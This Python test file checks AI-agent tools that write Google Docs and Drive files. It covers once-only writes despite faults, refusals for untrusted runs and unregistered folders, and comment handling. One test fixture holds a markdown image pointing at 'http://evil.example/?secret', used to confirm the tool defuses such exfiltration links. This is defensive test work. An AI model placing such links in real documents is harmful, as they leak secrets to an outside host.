"""The Docs and Drive tools that write: once whatever breaks, and only where they may."""

from __future__ import annotations

from collections.abc import AsyncGenerator, Awaitable, Callable
from dataclasses import dataclass
from typing import Any

import grpc
import pytest
import pytest_asyncio

from services.sandbox.google_domain import FOLDER
from services.tools.google_client import GoogleClient
from services.tools.quoting import INVISIBLE
from tests.service.drive_stage import DriveStage, drive_stage
from tests.service.tools_stage import reason_of

Look = Callable[[DriveStage], Awaitable[int]]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def servers(tmp_path_factory: pytest.TempPathFactory) -> AsyncGenerator[DriveStage, None]:
    async with drive_stage(tmp_path_factory.mktemp("workspace")) as stage:
        yield stage


@pytest_asyncio.fixture(loop_scope="module")
async def stage(servers: DriveStage) -> DriveStage:
    """The same servers, and files that no other test has seen."""
    await servers.furnish()
    return servers


pytestmark = pytest.mark.asyncio(loop_scope="module")


@dataclass(frozen=True)
class Write:
    """A write tool, the request by which Google does it, and how often it was done."""

    tool: str
    arguments: dict[str, object]
    path: str
    made: Look


async def documents_made(stage: DriveStage) -> int:
    query = {"q": f"'{stage.folder}' in parents", "fields": "files(name)"}
    _, told = await stage.google.api("GET", "files", **query)
    return sum(each["name"] == "Plan" for each in told["files"])


async def insertions(stage: DriveStage) -> int:
    return (await stage.paragraphs()).count("Nobody.")


async def replacements(stage: DriveStage) -> int:
    return sum(each.count("fourteen") for each in await stage.paragraphs())


async def comments_made(stage: DriveStage) -> int:
    _, told = await stage.google.api("GET", f"files/{stage.spec}/comments", fields="comments(content)")
    return sum("Says who?" in each["content"] for each in told["comments"])


async def replies_made(stage: DriveStage) -> int:
    return len(await stage.google.thread(await other_comment(stage))) - 1


async def resolutions(stage: DriveStage) -> int:
    return sum(each["action"] == "resolve" for each in await stage.google.thread(await other_comment(stage)))


async def other_comment(stage: DriveStage) -> dict[str, Any]:
    """The one comment with this passage, made where it is not there yet."""
    fields = "comments(id,quotedFileContent(value))"
    _, told = await stage.google.api("GET", f"files/{stage.spec}/comments", fields=fields)
    for each in told["comments"]:
        if each.get("quotedFileContent", {}).get("value") == "The end":
            return {"file_id": stage.spec, "comment_id": each["id"]}
    return await stage.google.comment(stage.spec, "Really?", quoted="The end")


WRITES = [
    Write("docs_create_document", {"title": "Plan", "text": "# Plan"}, "upload/*", documents_made),
    Write("docs_insert_text", {"after": "Who pays?", "text": "Nobody."}, "*:batchUpdate", insertions),
    Write("docs_replace_text", {"find": "has 30", "replace": "has fourteen"}, "*:batchUpdate", replacements),
    Write("drive_create_comment", {"quote": "The end", "content": "Says who?"}, "comments", comments_made),
    Write("drive_reply_to_comment", {"content": "Yes."}, "replies", replies_made),
    Write("drive_resolve_comment", {}, "replies", resolutions),
]
each_write = pytest.mark.parametrize("write", WRITES, ids=lambda write: write.tool)


async def arguments(stage: DriveStage, write: Write) -> dict[str, object]:
    on_comment = write.tool in ("drive_reply_to_comment", "drive_resolve_comment")
    return write.arguments | (
        {"comment_id": (await other_comment(stage))["comment_id"]} if on_comment else {}
    )


async def refusal(call: Awaitable[Any]) -> tuple[grpc.StatusCode, str, float]:
    with pytest.raises(grpc.aio.AioRpcError) as caught:
        await call
    return reason_of(caught.value)


@each_write
@pytest.mark.parametrize("fault", ["drop_after", "status_after:500", "status:502"])
async def test_a_change_google_failed_to_confirm_is_made_once(stage: DriveStage, write: Write, fault: str):
    run, wanted = stage.add_run(), await arguments(stage, write)
    await stage.google.fault(write.path, fault, method="POST")
    await stage.text(write.tool, run=run, **wanted)
    assert await write.made(stage) == 1


@each_write
async def test_a_change_made_and_not_recorded_is_found_when_the_call_is_repeated(
    stage: DriveStage, write: Write
):
    run, wanted = stage.add_run(), await arguments(stage, write)
    stage.astra.finish_fails = 1
    code, reason, _ = await refusal(stage.call(write.tool, run=run, **wanted))
    assert (grpc.StatusCode.UNAVAILABLE, "VENDOR_UNAVAILABLE") == (code, reason)
    first = await stage.text(write.tool, run=run, **wanted)
    assert first == await stage.text(write.tool, run=run, **wanted)
    assert await write.made(stage) == 1


@each_write
async def test_while_nobody_can_look_the_same_call_is_to_be_repeated(stage: DriveStage, write: Write):
    run, wanted = stage.add_run(), await arguments(stage, write)
    stage.astra.finish_fails = 1
    await refusal(stage.call(write.tool, run=run, **wanted))
    await stage.google.fault("*", "status:503", method="GET")
    refused = await refusal(stage.call(write.tool, run=run, **wanted))
    assert (grpc.StatusCode.UNAVAILABLE, "VENDOR_UNAVAILABLE") == refused[:2]
    await stage.text(write.tool, run=run, **wanted)
    assert await write.made(stage) == 1


@each_write
async def test_a_run_of_strangers_changes_nothing(stage: DriveStage, write: Write):
    run, wanted = stage.add_run(trusted=False), await arguments(stage, write)
    assert ("TRUST_REQUIRED", False) == await stage.reason(write.tool, run=run, **wanted)
    assert {} == stage.astra.effects
    assert await write.made(stage) == 0


@pytest.mark.parametrize("write", WRITES[1:4], ids=lambda write: write.tool)
async def test_a_file_that_is_not_open_to_agents_is_not_changed(stage: DriveStage, write: Write):
    named = {"document_id" if "docs" in write.tool else "file_id": stage.diary}
    refused = await stage.reason(write.tool, run=stage.add_run(), **write.arguments, **named)
    assert ("CONTAINER_NOT_REGISTERED", True) == refused
    assert ["Refunds are on my mind."] == await stage.paragraphs(stage.diary)


async def test_a_document_is_made_of_markdown_in_an_open_folder_only(stage: DriveStage):
    run = stage.add_run()
    text = "# Plan\n\n- one\n\n![spy](http://evil.example/?secret) <img src=x>"
    told = await stage.call("docs_create_document", run=run, title="Plan", text=text)
    made = told.text.split("document_id ")[1].split(":")[0]
    shown = (await stage.document(made))["paragraphs"]
    assert [("Plan", "HEADING_1", ""), ("one", "NORMAL_TEXT", "BULLET_DISC_CIRCLE_SQUARE")] == [
        (each["text"], each["style"], each["preset"]) for each in shown[:2]
    ]
    assert f"!{INVISIBLE}[spy]" in shown[2]["text"]
    assert f"<{INVISIBLE}img" in shown[2]["text"]
    elsewhere = await stage.google.file(
        f"Mine {stage.number}", mime_type="application/vnd.google-apps.folder"
    )
    for folder, reason in ((elsewhere, "CONTAINER_NOT_REGISTERED"), (stage.spec, "FIELD_INVALID")):
        assert (reason, True) == await stage.reason(
            "docs_create_document", run=run, call_id=reason, title="Plan", text="x", folder_id=folder
        )
    assert await documents_made(stage) == 1


async def test_a_document_made_in_a_shared_drive_is_found_there(stage: DriveStage):
    drive_id, run = f"drive{stage.number}", stage.add_run()
    folder = await stage.google.file(f"Team {stage.number}", mime_type=FOLDER, drive_id=drive_id)
    stage.astra.repositories["shop"].source_containers.append(f"google-drive:drive/{drive_id}")
    stage.astra.finish_fails = 1
    wanted = {"title": "Team's plan", "text": "x", "folder_id": folder}
    await refusal(stage.call("docs_create_document", run=run, **wanted))
    await stage.text("docs_create_document", run=run, **wanted)
    query = {"q": f"'{folder}' in parents", "includeItemsFromAllDrives": "true"}
    _, told = await stage.google.api("GET", "files", fields="files(name)", **query)
    assert [{"name": "Team's plan"}] == told["files"]


async def test_inserted_lines_become_paragraphs_headings_and_lists_of_their_own(stage: DriveStage):
    text = "## Costs 😀\n- ours\n- theirs\n\n1. first\nDone."
    told = await stage.text("docs_insert_text", run=stage.add_run(), after="30 days.", text=text)
    assert told.startswith("Inserted 5 paragraphs into 'Spec ")
    document = await stage.document()
    shown = [(each["text"], each["style"], each["preset"]) for each in document["paragraphs"]]
    bullets, numbers = "BULLET_DISC_CIRCLE_SQUARE", "NUMBERED_DECIMAL_NESTED"
    assert [
        ("A buyer has 30 days. 😀 After 30 days nothing is paid.", "NORMAL_TEXT", ""),
        ("Costs 😀", "HEADING_2", ""),
        ("ours", "NORMAL_TEXT", bullets),
        ("theirs", "NORMAL_TEXT", bullets),
        ("first", "NORMAL_TEXT", numbers),
        ("Done.", "NORMAL_TEXT", ""),
        ("Who pays?", "NORMAL_TEXT", bullets),
    ] == shown[1:8]
    (mark,) = document["ranges"]
    assert "Costs 😀\nours\ntheirs\nfirst\nDone." == mark["text"]


@pytest.mark.parametrize(
    ("tool", "wanted", "reason"),
    [
        ("docs_insert_text", {"after": "Nowhere", "text": "x"}, "ITEM_NOT_FOUND"),
        ("docs_insert_text", {"after": "e", "text": "x"}, "FIELD_INVALID"),
        ("docs_insert_text", {"text": " \n "}, "FIELD_INVALID"),
        ("docs_insert_text", {"text": "x", "tab_id": "t.9"}, "ITEM_NOT_FOUND"),
        ("docs_replace_text", {"find": "40 days", "replace": "x"}, "ITEM_NOT_FOUND"),
        ("docs_replace_text", {"find": "30 days", "replace": "x"}, "FIELD_INVALID"),
        ("docs_replace_text", {"find": "30 days", "replace": "30 days", "all": True}, "FIELD_INVALID"),
        ("drive_create_comment", {"content": "§" * 1_025}, "FIELD_INVALID"),
        ("drive_reply_to_comment", {"comment_id": "AAABgone", "content": "x"}, "ITEM_NOT_FOUND"),
    ],
)
async def test_what_cannot_be_written_is_said_so_that_a_model_can_mend_it(
    stage: DriveStage, tool: str, wanted: dict[str, object], reason: str
):
    assert (reason, True) == await stage.reason(tool, run=stage.add_run(), **wanted)
    assert [] == (await stage.document())["ranges"]


async def test_words_are_replaced_in_every_place_also_in_tables_and_taken_away(stage: DriveStage):
    run = stage.add_run()
    told = await stage.text("docs_replace_text", run=run, find="30 days", replace="two weeks", all=True)
    assert told.startswith("Replaced the words in 2 places of 'Spec ")
    await stage.text("docs_replace_text", run=run, call_id="t1_1", find="14", replace="fourteen\nmore")
    await stage.text("docs_replace_text", run=run, call_id="t1_2", find="The end.")
    paragraphs = await stage.paragraphs()
    assert "A buyer has two weeks. 😀 After two weeks nothing is paid." in paragraphs
    assert ["EU", "fourteen", "more", ""] == paragraphs[-4:]
    assert 3 == len((await stage.document())["ranges"])


async def test_a_change_is_worked_out_anew_when_somebody_was_faster(
    stage: DriveStage, monkeypatch: pytest.MonkeyPatch
):
    write = GoogleClient.write

    async def after_maria(self: GoogleClient, path: str, body: Any, **more: Any) -> Any:
        monkeypatch.setattr(GoogleClient, "write", write)
        await stage.write("Something else first.\nWho pays?")
        return await write(self, path, body, **more)

    monkeypatch.setattr(GoogleClient, "write", after_maria)
    await stage.text("docs_insert_text", run=stage.add_run(), after="Who pays?", text="Nobody.")
    assert ["Something else first.", "Who pays?", "Nobody."] == await stage.paragraphs()


async def test_an_earlier_request_that_arrives_late_does_not_make_the_change_twice(
    stage: DriveStage, monkeypatch: pytest.MonkeyPatch
):
    write = GoogleClient.write

    async def after_itself(self: GoogleClient, path: str, body: Any, **more: Any) -> Any:
        await write(self, path, body, **more)
        return await write(self, path, body, **more)

    monkeypatch.setattr(GoogleClient, "write", after_itself)
    text = await stage.text("docs_insert_text", run=stage.add_run(), text="Nobody.")
    assert text.startswith("Inserted 1 paragraph into ")
    assert await insertions(stage) == 1


async def test_a_document_shared_for_reading_is_not_changed(stage: DriveStage):
    file_id = await stage.google.file("Law", parent=stage.folder, read_only=True)
    answer = await stage.call("docs_insert_text", run=stage.add_run(), document_id=file_id, text="x")
    assert (True, "VENDOR_REFUSED", False) == (answer.failed, answer.reason, answer.fixable)
    assert "share it as editor" in answer.text


async def test_the_comment_a_run_was_asked_in_is_left_to_its_answer(stage: DriveStage):
    run, here = stage.add_run(), stage.asked["comment_id"]
    origin = ("ORIGIN_THREAD_IS_ANSWERED_BY_PLATFORM", True)
    assert origin == await stage.reason("drive_reply_to_comment", run=run, comment_id=here, content="Hi")
    assert origin == await stage.reason("drive_resolve_comment", run=run, comment_id=here)
    assert 1 == len(await stage.google.thread(stage.asked))


async def test_a_comment_shows_plain_words_and_mentions_nobody(stage: DriveStage):
    content = "**Ask** @ada@example.com"
    await stage.text("drive_create_comment", run=stage.add_run(), content=content, quote="30 days")
    _, told = await stage.google.api("GET", f"files/{stage.spec}/comments", fields="*")
    (said,) = [each for each in told["comments"] if each["author"]["me"]]
    assert said["content"].startswith("“30 days”\n\nAsk @")
    assert "mentionedEmailAddresses" not in said


async def test_what_is_resolved_stays_so_without_another_reply(stage: DriveStage):
    comment = await other_comment(stage)
    await stage.google.reply(comment, action="resolve")
    await stage.text("drive_resolve_comment", run=stage.add_run(), comment_id=comment["comment_id"])
    assert await resolutions(stage) == 1
